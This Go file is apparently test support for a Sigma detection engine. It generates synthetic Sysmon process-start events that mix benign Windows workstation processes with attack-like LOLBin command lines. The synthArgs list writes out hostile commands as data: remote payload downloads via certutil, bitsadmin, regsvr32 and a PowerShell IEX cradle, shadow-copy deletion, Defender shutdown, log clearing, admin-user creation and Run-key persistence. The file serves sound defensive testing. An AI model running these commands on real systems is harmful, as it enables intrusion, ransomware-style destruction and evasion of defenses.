package sigma

import (
	"fmt"
	"math/rand/v2"

	"github.com/lanner-dev/lanner/event"
	"github.com/lanner-dev/lanner/normalize"
)

// sysmonProcessEvent builds a Sysmon EID 1 event as the EVTX reader lays
// it out, normalised as the sources do.
func sysmonProcessEvent(image, cmd, parentImage, parentCmd, user, origName string) *event.Event {
	e := &event.Event{}
	add := func(k, v string) { e.Keys = append(e.Keys, k); e.Vals = append(e.Vals, v) }
	add("EventID", "1")
	add("Version", "5")
	add("Level", "4")
	add("Task", "1")
	add("Opcode", "0")
	add("Keywords", "0x8000000000000000")
	add("TimeCreated", "2025-10-26T23:34:35.0166374Z")
	add("EventRecordID", "33119645")
	add("Channel", "Microsoft-Windows-Sysmon/Operational")
	add("Computer", "ws1.corp.example")
	add("Provider_Name", "Microsoft-Windows-Sysmon")
	add("Provider_Guid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
	add("Execution_ProcessID", "3308")
	add("Execution_ThreadID", "4008")
	add("Security_UserID", "S-1-5-18")
	add("RuleName", "-")
	add("UtcTime", "2025-10-26 23:34:35.002")
	add("ProcessGuid", "{5AA13A44-B00B-68FE-9F5E-000000004002}")
	add("ProcessId", "4584")
	add("Image", image)
	add("FileVersion", "10.0.19041.1")
	add("Description", "Windows Command Processor")
	add("Product", "Microsoft® Windows® Operating System")
	add("Company", "Microsoft Corporation")
	add("OriginalFileName", origName)
	add("CommandLine", cmd)
	add("CurrentDirectory", `C:\Users\alice\`)
	add("User", user)
	add("LogonGuid", "{5AA13A44-568F-68FB-E39A-520000000000}")
	add("LogonId", "0x529ae3")
	add("TerminalSessionId", "2")
	add("IntegrityLevel", "Medium")
	add("Hashes", "SHA1=77B843BADE25E2B6FEA4ED02D9DCFDB32759285A,MD5=2CB9DCC4B733F88A7155F0D63AC634B8,SHA256=151A7E879BB4B534AC95D61B982C899CFF3DC01EDC2575FC8D71B3B9B44C8834,IMPHASH=4C2A67DEB457B8BF9F317820EE11E05D")
	add("ParentProcessGuid", "{5AA13A44-0C90-68FC-BF1D-000000004002}")
	add("ParentProcessId", "10048")
	add("ParentImage", parentImage)
	add("ParentCommandLine", parentCmd)
	add("ParentUser", user)
	e.NOrig = len(e.Keys)
	e.Origin.Format = "synthetic"
	normalize.New(nil).Event(e, normalize.Windows)
	return e
}

var (
	synthImages = []string{`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\regsvr32.exe`, `C:\Windows\System32\certutil.exe`,
		`C:\Windows\System32\mshta.exe`, `C:\Windows\System32\wscript.exe`, `C:\Windows\System32\schtasks.exe`,
		`C:\Windows\System32\reg.exe`, `C:\Windows\System32\wbem\WMIC.exe`, `C:\Windows\System32\net.exe`,
		`C:\Windows\System32\sc.exe`, `C:\Windows\System32\bitsadmin.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\notepad.exe`,
		`C:\Users\alice\AppData\Local\Temp\setup.exe`, `C:\Windows\System32\msiexec.exe`, `C:\Windows\System32\vssadmin.exe`,
		`C:\Windows\System32\taskkill.exe`, `C:\Windows\System32\whoami.exe`, `C:\Windows\System32\nltest.exe`,
		`C:\Windows\System32\conhost.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\wevtutil.exe`,
		`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe`, `C:\Users\alice\Downloads\ſvchost.exe`}
	synthParents = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`C:\Windows\System32\services.exe`, `C:\Windows\System32\svchost.exe`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\System32\mshta.exe`}
	synthArgs = []string{"/c whoami", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "/c ping 127.0.0.1 -n 5",
		"shell32.dll,Control_RunDLL", "/s /u /i:http://198.51.100.7/x.sct scrobj.dll", "-urlcache -split -f http://203.0.113.5/a.exe a.exe",
		"vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run\")", "/create /tn Update /tr C:\\Users\\Public\\u.exe /sc onlogon",
		"add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe", "shadowcopy delete /nointeractive",
		"user admin P@ss /add", "stop WinDefend", "/transfer j /download http://203.0.113.9/p.exe C:\\p.exe",
		"--type=renderer --lang=en-US", "delete shadows /all /quiet", "/IM MsMpEng.exe /F", "/domain_trusts /all_trusts",
		"cl Security", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')", "–nop –ExecutionPolicy Bypass",
		"/q /c del C:\\Windows\\Temp\\*.log", "-Command \"Get-Process | Out-File C:\\p.txt\"", "ЁЖИК ﬀ ǅ Straße"}
)

// syntheticEvents are Sysmon-shaped process starts: common LOLBins with
// benign and attack-like arguments, mixed case and a few non-ASCII values.
func syntheticEvents() []*event.Event { return syntheticN(1500, 7) }

func syntheticN(n int, seed uint64) []*event.Event {
	r := rand.New(rand.NewPCG(seed, 11))
	var out []*event.Event
	for i := 0; i < n; i++ {
		img := synthImages[r.IntN(len(synthImages))]
		par := synthParents[r.IntN(len(synthParents))]
		arg := synthArgs[r.IntN(len(synthArgs))]
		if r.IntN(4) == 0 {
			img = mixCase(r, img)
		}
		if r.IntN(5) == 0 {
			arg = mixCase(r, arg)
		}
		name := img[lastSep(img)+1:]
		cmd := fmt.Sprintf("%q %s", name, arg)
		if r.IntN(3) == 0 {
			cmd = fmt.Sprintf("%q %s", img, arg)
		}
		e := sysmonProcessEvent(img, cmd, par, fmt.Sprintf("%q", par), `CORP\alice`, name)
		e.Origin.Line = int64(i + 1)
		e.Origin.File = "synthetic"
		out = append(out, e)
	}
	return out
}

func lastSep(s string) int {
	for i := len(s) - 1; i >= 0; i-- {
		if s[i] == '\\' || s[i] == '/' {
			return i
		}
	}
	return -1
}

func mixCase(r *rand.Rand, s string) string {
	b := []rune(s)
	for i, c := range b {
		if r.IntN(2) == 0 {
			if c >= 'a' && c <= 'z' {
				b[i] = c - 32
			} else if c >= 'A' && c <= 'Z' {
				b[i] = c + 32
			}
		}
	}
	return string(b)
}

// benignProcs are common process starts of a Windows workstation: image,
// arguments, parent, OriginalFileName.
var benignProcs = [][4]string{
	{`C:\Windows\System32\svchost.exe`, `-k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`, "svchost.exe"},
	{`C:\Windows\System32\svchost.exe`, `-k LocalServiceNetworkRestricted -p -s Dhcp`, `C:\Windows\System32\services.exe`, "svchost.exe"},
	{`C:\Windows\System32\svchost.exe`, `-k UnistackSvcGroup -s CDPUserSvc`, `C:\Windows\System32\services.exe`, "svchost.exe"},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `--type=renderer --field-trial-handle=1234,i,555 --lang=en-US --renderer-client-id=7 --mojo-platform-channel-handle=4432 /prefetch:1`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe"},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=1680 /prefetch:2`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe"},
	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "msedge.exe"},
	{`C:\Windows\System32\conhost.exe`, `0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`, "CONHOST.EXE"},
	{`C:\Windows\System32\backgroundTaskHost.exe`, `-ServerName:BackgroundTaskHost.WebAccountProvider`, `C:\Windows\System32\svchost.exe`, "backgroundTaskHost.exe"},
	{`C:\Windows\System32\RuntimeBroker.exe`, `-Embedding`, `C:\Windows\System32\svchost.exe`, "RuntimeBroker.exe"},
	{`C:\Windows\System32\SearchProtocolHost.exe`, `Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"`, `C:\Windows\System32\SearchIndexer.exe`, "SearchProtocolHost.exe"},
	{`C:\Windows\System32\taskhostw.exe`, `{222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`, "taskhostw.exe"},
	{`C:\Windows\System32\dllhost.exe`, `/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`, `C:\Windows\System32\svchost.exe`, "dllhost.exe"},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `-secured -Embedding`, `C:\Windows\System32\svchost.exe`, "Wmiprvse.exe"},
	{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23110.3-0\MpCmdRun.exe`, `-wdenable`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23110.3-0\MsMpEng.exe`, "MpCmdRun.exe"},
	{`C:\Program Files\Git\cmd\git.exe`, `fetch --all --prune`, `C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "git.exe"},
	{`C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US`, `C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "electron.exe"},
	{`C:\Program Files\nodejs\node.exe`, `C:\Users\alice\src\app\node_modules\.bin\webpack --watch`, `C:\Windows\System32\cmd.exe`, "node.exe"},
	{`C:\Users\alice\AppData\Local\Programs\Python\Python312\python.exe`, `-m pytest tests\unit -q`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "python.exe"},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `/n "C:\Users\alice\Documents\Quarterly report.docx" /o ""`, `C:\Windows\explorer.exe`, "WinWord.exe"},
	{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `/recycle`, `C:\Windows\explorer.exe`, "Outlook.exe"},
	{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `/dde`, `C:\Windows\explorer.exe`, "Excel.exe"},
	{`C:\Windows\explorer.exe`, ``, `C:\Windows\System32\userinit.exe`, "EXPLORER.EXE"},
	{`C:\Windows\System32\sihost.exe`, ``, `C:\Windows\System32\svchost.exe`, "sihost.exe"},
	{`C:\Windows\System32\ctfmon.exe`, ``, `C:\Windows\System32\svchost.exe`, "CTFMON.EXE"},
	{`C:\Windows\System32\smartscreen.exe`, `-Embedding`, `C:\Windows\System32\svchost.exe`, "smartscreen.exe"},
	{`C:\Windows\System32\SecurityHealthService.exe`, ``, `C:\Windows\System32\services.exe`, "SecurityHealthService.exe"},
	{`C:\Windows\servicing\TrustedInstaller.exe`, ``, `C:\Windows\System32\services.exe`, "TrustedInstaller.exe"},
	{`C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3570_none_7e0a5f2d1dc9e1d1\TiWorker.exe`, `-Embedding`, `C:\Windows\System32\svchost.exe`, "TiWorker.exe"},
	{`C:\Windows\System32\CompatTelRunner.exe`, `-m:appraiser.dll -f:DoScheduledTelemetryRun -cv:abcd.1`, `C:\Windows\System32\svchost.exe`, "CompatTelRunner.exe"},
	{`C:\Windows\System32\audiodg.exe`, `0x4a8`, `C:\Windows\System32\svchost.exe`, "audiodg.exe"},
	{`C:\Windows\System32\rdpclip.exe`, ``, `C:\Windows\System32\svchost.exe`, "rdpclip.exe"},
	{`C:\Program Files\Microsoft OneDrive\OneDrive.exe`, `/background`, `C:\Windows\explorer.exe`, "OneDrive.exe"},
	{`C:\Users\alice\AppData\Local\Microsoft\Teams\current\Teams.exe`, `--type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US`, `C:\Users\alice\AppData\Local\Microsoft\Teams\current\Teams.exe`, "Teams.exe"},
	{`C:\Program Files\Java\jdk-21\bin\java.exe`, `-Xmx2g -jar C:\tools\build-server\agent.jar`, `C:\Windows\System32\services.exe`, "java.exe"},
	{`C:\Windows\System32\wuauclt.exe`, `/UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 1d1b6b0c /RunHandlerComServer`, `C:\Windows\System32\svchost.exe`, "wuauclt.exe"},
	{`C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe`, `/service`, `C:\Windows\System32\services.exe`, "OfficeClickToRun.exe"},
	{`C:\Windows\System32\msiexec.exe`, `/V`, `C:\Windows\System32\services.exe`, "msiexec.exe"},
	{`C:\Windows\System32\cmd.exe`, `/c ""C:\Users\alice\src\app\build.cmd" release"`, `C:\Windows\explorer.exe`, "Cmd.Exe"},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-NoProfile -Command "Get-ChildItem C:\Users\alice\src | Measure-Object"`, `C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "PowerShell.EXE"},
	{`C:\Windows\System32\notepad.exe`, `C:\Users\alice\Desktop\notes.txt`, `C:\Windows\explorer.exe`, "NOTEPAD.EXE"},
}

// realisticEvents mixes benign process starts (85 %) with the LOLBin and
// attack-like starts of syntheticN (15 %).
func realisticEvents(n int, seed uint64) []*event.Event {
	r := rand.New(rand.NewPCG(seed, 3))
	bad := syntheticN(n/6+1, seed)
	out := make([]*event.Event, 0, n)
	for i := 0; i < n; i++ {
		if r.IntN(100) < 15 {
			out = append(out, bad[r.IntN(len(bad))].Clone())
			continue
		}
		p := benignProcs[r.IntN(len(benignProcs))]
		cmd := fmt.Sprintf("%q", p[0])
		if p[1] != "" {
			cmd += " " + p[1]
		}
		// Half the command lines carry something unique (a process id, a
		// GUID, a file name), so that they do not repeat; the rest repeat
		// as service and helper command lines do.
		switch r.IntN(6) {
		case 0:
			cmd += fmt.Sprintf(" --renderer-client-id=%d --launch-time-ticks=%d", r.IntN(5000), r.Int64N(1e12))
		case 1:
			cmd += fmt.Sprintf(` /Processid:{%08X-%04X-%04X-%04X-%012X}`, r.Uint32(), r.IntN(1<<16), r.IntN(1<<16), r.IntN(1<<16), r.Int64N(1<<48))
		case 2:
			cmd += fmt.Sprintf(` "C:\Users\alice\Documents\report-%d.docx"`, r.IntN(100000))
		}
		e := sysmonProcessEvent(p[0], cmd, p[2], fmt.Sprintf("%q", p[2]), `CORP\alice`, p[3])
		e.Origin.File, e.Origin.Line = "realistic", int64(i+1)
		out = append(out, e)
	}
	return out
}
